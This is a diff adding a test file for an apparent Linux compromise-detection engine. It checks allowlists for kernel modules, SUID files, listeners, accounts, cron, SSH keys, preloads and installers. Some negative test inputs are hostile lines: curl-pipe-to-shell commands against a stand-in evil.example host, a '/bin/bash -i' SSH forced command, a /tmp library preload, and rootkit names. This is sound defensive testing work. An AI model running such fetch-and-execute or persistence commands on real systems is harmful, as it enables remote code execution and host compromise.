@@ -1,0 +1,111 @@
+import { test } from "tap";
+import {
+  baselineCatalog,
+  cloudDefaultUser,
+  cloudSudoRule,
+  expectedListener,
+  heartbeatPing,
+  isPackagedKernelModule,
+  knownAutomation,
+  knownPreload,
+  packagedSuid,
+  packagedUnitFile,
+  privilegedImage,
+  systemAccount,
+  tempExecution,
+  vendorInstaller,
+} from "../../shared/engine/baselines/index.js";
+import { knownRootkitModule } from "../../shared/engine/intel/rootkits.js";
+import { gtfobinsName } from "../../shared/engine/intel/gtfobins-suid.js";
+import { readRepoFile } from "./helpers.js";
+
+test("kernel modules: Debian's tree, DKMS and vendor modules; rootkits are intel, not baseline", async (t) => {
+  t.equal(isPackagedKernelModule("ext4")?.baseline, "kmod:debian-in-tree");
+  t.match(isPackagedKernelModule("nf_tables")?.source, /linux-image-6\.1\.0-56-amd64 6\.1\.192-2/);
+  t.equal(isPackagedKernelModule("nvme-core")?.baseline, "kmod:debian-in-tree", "'-' is normalised to '_'");
+  t.equal(isPackagedKernelModule("nvidia_uvm")?.baseline, "kmod:nvidia");
+  t.equal(isPackagedKernelModule("falcon_lsm_pinned_16110")?.baseline, "kmod:crowdstrike-falcon", "versioned vendor names by prefix");
+  t.equal(isPackagedKernelModule("scap")?.baseline, "kmod:falco-sysdig");
+  t.equal(isPackagedKernelModule("diamorphine"), undefined);
+  t.equal(isPackagedKernelModule(""), undefined);
+  t.equal(knownRootkitModule("Diamorphine")?.family, "Diamorphine LKM rootkit");
+  t.equal(knownRootkitModule("ext4"), undefined);
+});
+
+test("SUID: packaged helpers by canonical path, GTFOBins names", async (t) => {
+  t.equal(packagedSuid("/bin/su")?.package, "util-linux", "/bin is /usr/bin on merged-/usr systems");
+  t.equal(packagedSuid("/usr/lib/openssh/ssh-keysign")?.baseline, "suid:openssh-client");
+  t.match(packagedSuid("/usr/bin/pkexec")?.source, /postinst: set_perms root root 4755/);
+  t.equal(packagedSuid("/usr/lib/aarch64-linux-gnu/utempter/utempter")?.package, "libutempter0", "any multiarch triplet");
+  t.equal(packagedSuid("/tmp/su"), undefined);
+  t.equal(packagedSuid("/usr/bin/bash"), undefined);
+  t.equal(gtfobinsName("/usr/bin/python3.11"), "python3");
+  t.equal(gtfobinsName("/var/tmp/.bash"), "bash");
+  t.equal(gtfobinsName("/usr/bin/passwd"), undefined);
+});
+
+test("listeners: the port must be held by its default program", async (t) => {
+  t.equal(expectedListener(9100, "node_exporter")?.baseline, "port:node-exporter");
+  t.equal(expectedListener(9100, "bash"), undefined);
+  t.equal(expectedListener({ port: 10250, protocol: 6, processName: "kubelet" })?.baseline, "port:kubelet");
+  t.equal(expectedListener({ port: 10256, processName: "kube-proxy" })?.baseline, "port:kube-proxy");
+  t.equal(expectedListener({ port: 10257, processName: "kube-controller" })?.baseline, "port:kube-controller-manager", "comm is 15 characters");
+  t.equal(expectedListener({ port: 9092, processName: "java", cmdline: "java kafka.Kafka server.properties" })?.baseline, "port:kafka");
+  t.equal(expectedListener({ port: 9092, processName: "java", cmdline: "java -jar x.jar" }), undefined, "java alone is not Kafka");
+  t.equal(expectedListener({ port: 123, protocol: 6, processName: "chronyd" }), undefined, "protocol matters");
+  t.equal(expectedListener({ port: 8472, protocol: 17, processName: "", kernel: true })?.baseline, "port:vxlan-wireguard-kernel");
+  t.equal(expectedListener({ port: 4444, protocol: 6, processName: "", kernel: true }), undefined);
+  t.match(expectedListener(9100, "node_exporter")?.source, /Default port allocations/);
+});
+
+test("accounts: packaged system users with their packaged shell, cloud default users", async (t) => {
+  t.equal(systemAccount("postgres", "/bin/bash")?.baseline, "accounts:postgres");
+  t.equal(systemAccount("www-data", "/bin/bash"), undefined, "www-data never gets a shell from its package");
+  t.equal(systemAccount("_chrony")?.baseline, "accounts:systemd");
+  t.equal(systemAccount("svc-backup"), undefined);
+  t.equal(cloudDefaultUser("ec2-user")?.baseline, "accounts:cloud-default-user");
+  t.equal(cloudDefaultUser("postgres"), undefined);
+  t.equal(cloudSudoRule("/etc/sudoers.d/90-cloud-init-users", "ubuntu", "ALL=(ALL) NOPASSWD:ALL")?.baseline, "cloud-init:sudoers");
+  t.equal(cloudSudoRule("/etc/sudoers.d/90-cloud-init-users", "mallory", "ALL=(ALL) NOPASSWD:ALL"), undefined, "only the cloud default user");
+  t.equal(cloudSudoRule("/etc/sudoers.d/google_sudoers", "%google-sudoers", "ALL=(ALL:ALL) NOPASSWD:ALL")?.baseline, "gce:google-sudoers");
+});
+
+test("automation: packaged cron, backup tools, pings, cloud-init keys, config-management SSH", async (t) => {
+  t.equal(knownAutomation({ kind: "cron", path: "/etc/cron.d/e2scrub_all", command: "root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r" })?.baseline, "cron:packaged:e2fsprogs");
+  t.equal(knownAutomation({ kind: "cron", path: "/etc/cron.d/x", command: "root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r" }), undefined, "the packaged line in another file");
+  t.equal(knownAutomation({ kind: "cron", path: "/etc/cron.d/backup", command: "root /usr/bin/borg create --stats ::'{hostname}-{now}' /etc /srv" })?.baseline, "cron:borg");
+  t.equal(knownAutomation({ kind: "cron", path: "/var/spool/cron/crontabs/root", command: "rsnapshot daily" })?.baseline, "cron:rsnapshot");
+  t.equal(knownAutomation({ kind: "cron", path: "/var/spool/cron/crontabs/root", command: "curl http://x/y | sh" }), undefined);
+  t.equal(heartbeatPing("/opt/job.sh && curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/abc")?.explanation.baseline, "cron:heartbeat-ping");
+  t.equal(heartbeatPing("curl -fsS https://evil.example/a | sh"), undefined);
+  const opts = `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"admin\\" rather than the user \\"root\\".';echo;sleep 10;exit 142"`;
+  t.equal(knownAutomation({ kind: "ssh-key-options", options: opts })?.baseline, "cloud-init:disable-root-opts");
+  t.equal(knownAutomation({ kind: "ssh-key-options", options: 'command="/bin/bash -i"' }), undefined);
+  t.equal(knownAutomation({ kind: "ssh-key-comment", comment: "ansible@mgmt-01" })?.baseline, "automation:config-management-key");
+  t.equal(knownAutomation({ kind: "ssh-key-comment", comment: "mallory@kali" }), undefined);
+  t.equal(knownAutomation({ kind: "ssh-client", cmdline: "ssh -C -o ControlMaster=auto -o ControlPersist=60s -o ControlPath=/home/d/.ansible/cp/ab12 10.0.0.7 /bin/sh -c 'echo ~'" })?.baseline, "automation:ansible-ssh");
+  t.equal(knownAutomation({ kind: "ssh-client", cmdline: "ssh root@10.0.0.5" }), undefined);
+});
+
+test("preload, units, images, installers, temp layouts", async (t) => {
+  t.equal(knownPreload("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")?.baseline, "preload:jemalloc");
+  t.equal(knownPreload("/dev/shm/libjemalloc.so.2"), undefined, "the name outside its package directory");
+  t.equal(knownPreload("libjemalloc.so.2 /tmp/x.so"), undefined, "every library must be explained");
+  t.equal(packagedUnitFile("/lib/systemd/system/ssh.service")?.baseline, "systemd:package-unit-dir");
+  t.equal(packagedUnitFile("/etc/systemd/system/x.service"), undefined);
+  t.equal(privilegedImage("gcr.io/cadvisor/cadvisor:v0.49.1")?.baseline, "container:cadvisor");
+  t.equal(privilegedImage("docker:24.0-dind")?.baseline, "container:docker-dind");
+  t.equal(privilegedImage("docker:24.0-cli"), undefined);
+  t.equal(privilegedImage("alpine:3.19"), undefined);
+  t.equal(vendorInstaller("curl -fsSL https://get.docker.com | sh")?.baseline, "installer:docker");
+  t.equal(vendorInstaller("curl -fsSL https://get.docker.com.evil.example/x | sh"), undefined);
+  t.equal(tempExecution("/tmp/go-build123/b001/exe/main")?.baseline, "tmp-exec:go-run");
+  t.equal(tempExecution("/tmp/.x/main"), undefined);
+});
+
+test("every baseline carries a source and is listed in docs/baselines.md", async (t) => {
+  const doc = readRepoFile("docs/baselines.md");
+  const ids = new Set(baselineCatalog().map((b) => b.id.replace(/^(suid|cron:packaged):.*/, "$1")));
+  for (const entry of baselineCatalog()) t.ok(entry.source.length > 10, `${entry.id} has a source`);
+  for (const id of ids) t.ok(doc.includes(id), `docs/baselines.md lists ${id}`);
+});
